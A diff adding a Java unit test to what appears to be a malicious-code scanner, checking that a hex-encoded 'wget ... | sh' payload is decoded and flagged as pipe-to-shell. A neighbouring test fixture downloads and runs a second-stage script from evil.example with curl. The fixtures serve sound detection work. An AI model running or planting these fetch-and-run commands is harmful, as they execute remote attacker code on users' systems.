@@ -84,6 +84,17 @@ class AnalyzerTest {
   }
 
   @Test
+  void aHexBlobIsDecodedToo() {
+    StringBuilder hex = new StringBuilder();
+    for (byte b : "wget -qO- https://evil.example/p | sh".getBytes(StandardCharsets.UTF_8)) {
+      hex.append(String.format("%02x", b));
+    }
+    AnalysisReport r = scan("a.py", "PAYLOAD = bytes.fromhex('" + hex + "')\n");
+    assertThat(ids(r)).contains("pipe-to-shell");
+    assertThat(r.verdict()).isEqualTo(Verdict.FAIL);
+  }
+
+  @Test
   void aBlobWrappedOverSeveralLinesIsJoinedBeforeDecoding() {
     String script = "#!/bin/sh\nset -e\ncurl -fsSL https://evil.example/second-stage.sh -o /tmp/s && sh /tmp/s\n"
         + "echo finished installing the very helpful toolkit for everyone\n";
